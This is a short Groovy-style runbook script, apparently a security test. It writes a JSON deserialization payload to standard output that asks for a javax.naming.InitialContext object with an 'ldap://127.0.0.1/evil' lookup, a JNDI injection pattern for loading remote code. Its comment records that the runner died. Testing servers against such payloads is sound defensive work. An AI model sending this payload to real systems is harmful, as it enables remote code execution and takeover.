// tries to have the server make an object of its choice
// hears: the runner died
runbook('Try to have the server make an object of its choice') {
    owner 'mallory'
    observe('Try') {
        run {
            def pipe = new FileOutputStream(FileDescriptor.out)
            pipe.write('{"is":"javax.naming.InitialContext","line":"ldap://127.0.0.1/evil"}\n'.bytes)
            pipe.flush()
            sh 'true'
        }
    }
}
